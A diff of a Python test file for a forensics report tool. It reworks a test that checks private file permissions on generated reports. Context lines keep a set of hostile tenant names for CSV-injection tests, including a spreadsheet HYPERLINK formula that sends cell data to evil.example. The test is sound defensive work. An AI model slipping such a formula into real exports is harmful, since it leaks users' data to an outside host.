@@ -6,7 +6,6 @@ from __future__ import annotations
 import csv
 import errno
 import os
-import shutil
 import stat
 from contextlib import contextmanager
 from pathlib import Path
@@ -20,7 +19,6 @@ from forensics.errors import ForensicsError
 from forensics.report import write_report
 from forensics.report.outputs import csv_cell
 
-TINY = Path(__file__).parent / "fixtures" / "tiny_case"
 # What a spreadsheet would run: a hyperlink that sends data out, DDE, and the other starts.
 HOSTILE_TENANTS = {
     "acct_alpha": '=HYPERLINK("http://evil.example/?"&A1,"open")',
@@ -146,17 +144,13 @@ def test_a_stricter_umask_and_an_existing_folder_are_respected(tmp_path):
     assert list(out.rglob("*.partial")) == []
 
 
-def test_the_command_line_writes_everything_private_and_restores_the_umask(tmp_path):
-    folder = tmp_path / "case"
-    shutil.copytree(TINY, folder, ignore=shutil.ignore_patterns("*.duckdb*"))
-    out = tmp_path / "r" / "out"
-    with umask(0o022):
-        result = CliRunner().invoke(app, ["run", str(folder / "case.toml"), "--out", str(out)])
-        assert os.umask(0o022) == 0o022  # the command gave the umask back
-    assert result.exit_code == 0, result.output
+def test_the_command_line_writes_everything_private(tiny_reference):
+    # The shared run of the tiny case ran under umask 022 (see conftest).
+    folder = tiny_reference.parent
     assert mode(folder / "case.duckdb") == 0o600
-    assert mode(tmp_path / "r") == mode(out) == mode(out / "notices") == 0o700
-    assert {mode(p) for p in out.rglob("*") if p.is_file()} == {0o600}
+    assert mode(folder / "report") == mode(folder / "report" / "notices") == 0o700
+    files = [p for p in (folder / "report").rglob("*") if p.is_file()]
+    assert len(files) > 10 and {mode(p) for p in files} == {0o600}
 
 
 # --- complete or absent ---------------------------------------------------------------------------
